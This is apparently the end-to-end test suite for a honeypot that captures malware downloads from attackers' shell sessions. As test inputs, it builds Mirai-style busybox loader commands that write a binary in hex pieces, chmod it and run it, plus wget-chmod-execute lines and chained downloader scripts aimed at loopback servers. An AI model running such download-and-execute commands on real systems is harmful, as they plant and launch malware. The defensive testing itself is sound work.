"""Capture on the running trap: typed loaders, dead servers, picky servers, siblings, second stages, restarts."""

from __future__ import annotations

import http.server
import shutil
import socket
import threading
from collections.abc import Callable, Iterator

import pytest
from tests.recover.test_wrappings import stub
from tests.support.running import RunningTrap, elf_stub, eventually
from tests.support.telnet import TelnetClient

from urltrap.machine.effects import BytesContent
from urltrap.machine.kernel.strangers import stays, stranger
from urltrap.machine.kernel.stubs import layout

pytestmark = pytest.mark.e2e

PAYLOAD = elf_stub()
Answer = Callable[[str, str], tuple[int, bytes]]


class Site:
    """A loopback web server that answers (path, User-Agent) by a function; remembers (method, path, User-Agent)."""

    def __init__(self, answer: Answer, port: int = 0) -> None:
        self.requests: list[tuple[str, str, str]] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                agent = self.headers.get("User-Agent", "")
                site.requests.append((self.command, self.path, agent))
                status, body = answer(self.path, agent)
                self.send_response(status)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command == "GET":
                    self.wfile.write(body)

            do_HEAD = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Silent."""

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def paths(self) -> list[str]:
        return [path for method, path, _ in self.requests if method == "GET"]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def serve() -> Iterator[Callable[..., Site]]:
    made: list[Site] = []

    def start(answer: Answer, port: int = 0) -> Site:
        made.append(Site(answer, port))
        return made[-1]

    yield start
    for site in made:
        site.close()


@pytest.fixture(scope="module")
def trap(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningTrap]:
    if shutil.which("ssh") is None:
        pytest.skip("no ssh client: apt-get install openssh-client")
    settings = {
        "URLTRAP_EGRESS__RETRY_SECONDS": "[1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1]",
        "URLTRAP_EGRESS__SIBLING_SECONDS": "0.05",
        "URLTRAP_EGRESS__PER_HOST_PER_MINUTE": "1000",
        "URLTRAP_EGRESS__TOTAL_PER_MINUTE": "1000",
    }
    running = RunningTrap(tmp_path_factory.mktemp("capture") / "data", settings)
    yield running
    running.stop()


def captures(trap: RunningTrap, url: str) -> list[dict[str, object]]:
    rows = [row for row in trap.json("urls") if row["url"] == url]
    return [row for row in rows if row["outcome"] == "fetched"]


def loader(port: int) -> bytes:
    """A downloader stub as loaders type it, its server as a string: constants that are loopback pass for numbers.

    It is one that comes back: what an unknown program does follows from its bytes, and one that stays in
    the foreground would hold the command for as long.
    """
    made = (
        stub(3, False, b"\x90\x90\x90\x90" + b"127.0.0.1:%d\0" % port + bytes([fill])) for fill in range(10)
    )
    return next(program for program in made if not _stays(program))


def _stays(program: bytes) -> bool:
    content = BytesContent(program)
    found = layout(content)
    assert found is not None
    return stranger(content, found) is stays


def typed(data: bytes) -> list[str]:
    """The lines that put `data` into a file piece by piece, as Mirai's loader does."""
    pieces = [data[at : at + 32] for at in range(0, len(data), 32)]
    lines = ["cd /tmp; >upnp; /bin/busybox chmod 777 upnp"]
    for number, piece in enumerate(pieces):
        escaped = "".join(f"\\x{byte:02x}" for byte in piece)
        lines.append(f"/bin/busybox echo -ne '{escaped}' {'>>' if number else '>'} upnp")
    return [*lines, "./upnp; /bin/busybox IHCCE"]


def test_a_loader_typed_as_hex_over_telnet_is_captured(trap: RunningTrap, serve: Callable[..., Site]) -> None:
    site = serve(lambda path, agent: (200, PAYLOAD))
    with TelnetClient("127.0.0.1", trap.telnet_port) as client:
        client.login("root", "letmein-7")
        for line in typed(loader(site.port)):
            client.run(line)
    eventually(lambda: "/bot.x" in site.paths(), "the stub's URL is asked for")
    eventually(lambda: captures(trap, f"{site.base}/bot.x"), "its payload is captured")


def test_a_loader_typed_as_hex_in_one_command_is_captured(
    trap: RunningTrap, serve: Callable[..., Site]
) -> None:
    site = serve(lambda path, agent: (200, PAYLOAD))
    trap.ssh("; ".join(typed(loader(site.port))))
    eventually(lambda: "/bot.x" in site.paths(), "the stub's URL is asked for")
    eventually(lambda: captures(trap, f"{site.base}/bot.x"), "its payload is captured")


def test_a_dead_server_that_comes_alive_is_captured_by_a_retry(
    trap: RunningTrap, serve: Callable[..., Site]
) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        port = taken.getsockname()[1]
    url = f"http://127.0.0.1:{port}/late.sh"
    trap.ssh(f"wget -q {url}")
    eventually(
        lambda: any(row["url"] == url and row["outcome"] == "connect-failed" for row in trap.json("urls")),
        "the failure is recorded",
    )
    site = serve(lambda path, agent: (200, b"#!/bin/sh\nexit 0\n"), port)
    eventually(lambda: "/late.sh" in site.paths(), "it is tried again")
    eventually(lambda: captures(trap, url), "it is captured")


def test_a_server_that_answers_only_curl_gives_its_payload_to_curl(
    trap: RunningTrap, serve: Callable[..., Site]
) -> None:
    site = serve(lambda path, agent: (200, PAYLOAD) if agent.startswith("curl/") else (403, b"no"))
    trap.ssh(f"wget -q {site.base}/only-curl")
    eventually(lambda: any(agent.startswith("curl/") for _, _, agent in site.requests), "curl is tried")
    eventually(
        lambda: any(
            row["url"] == f"{site.base}/only-curl" and row["kind"] == "elf" for row in trap.json("urls")
        ),
        "the payload is the URL's",
    )


def test_siblings_for_other_processors_are_captured_and_not_published(
    trap: RunningTrap, serve: Callable[..., Site]
) -> None:
    def answer(path: str, agent: str) -> tuple[int, bytes]:
        known = path in ("/bins/mips", "/bins/mpsl", "/bins/arm7")
        return (200, PAYLOAD + path.encode()) if known else (404, b"")

    site = serve(answer)
    trap.ssh(f"cd /tmp; wget -q {site.base}/bins/mips -O m; chmod 777 m; ./m")
    eventually(
        lambda: {"/bins/mpsl", "/bins/arm7", "/bins/x86"} <= set(site.paths()), "siblings are asked for"
    )
    eventually(lambda: captures(trap, f"{site.base}/bins/mips"), "the URL itself is captured")
    listed = {row["url"] for row in trap.json("urls")}
    assert f"{site.base}/bins/arm7" not in listed, "no attacker named it"
    assert f"{site.base}/bins/arm7" not in trap.get("/feed.txt")


def test_a_chain_of_scripts_is_followed_to_its_end(trap: RunningTrap, serve: Callable[..., Site]) -> None:
    def answer(path: str, agent: str) -> tuple[int, bytes]:
        follows = {"/one.sh": "two.sh", "/two.sh": f"one.sh; wget {site.base}/end"}
        if path == "/end":
            return 200, PAYLOAD
        return 200, b"#!/bin/sh\nwget http://127.0.0.1:%d/%s\n" % (site.port, follows[path].encode())

    site = serve(answer)
    trap.ssh(f"curl -s {site.base}/one.sh -o /tmp/one")
    eventually(lambda: "/end" in site.paths(), "the second and the third stage are asked for")
    eventually(lambda: captures(trap, f"{site.base}/end"), "the end is captured")
    assert site.paths().count("/one.sh") == 1, "a script that leads back to the first one is no new fetch"


def test_a_fetcher_killed_within_the_window_does_not_ask_again(
    trap: RunningTrap, serve: Callable[..., Site]
) -> None:
    site = serve(lambda path, agent: (200, b"once"))
    trap.ssh(f"wget -q {site.base}/once -O /tmp/a")
    trap.kill("fetcher")
    done = trap.ssh(f"wget -q {site.base}/once -O /tmp/b; cat /tmp/b")
    assert done.stdout == b"once"
    assert site.paths() == ["/once"]


def test_off_means_off_for_what_waits_too(trap: RunningTrap, serve: Callable[..., Site]) -> None:
    site = serve(lambda path, agent: (200, PAYLOAD))
    trap.cli("egress", "off")
    try:
        trap.ssh(f"wget -q {site.base}/off; echo wget {site.base}/off2 > /tmp/s; sh /tmp/s")
        eventually(
            lambda: any(
                row["url"] == f"{site.base}/off" and row["outcome"] == "recorded" for row in trap.json("urls")
            ),
            "it is recorded",
        )
        assert site.requests == []
    finally:
        trap.cli("egress", "on")
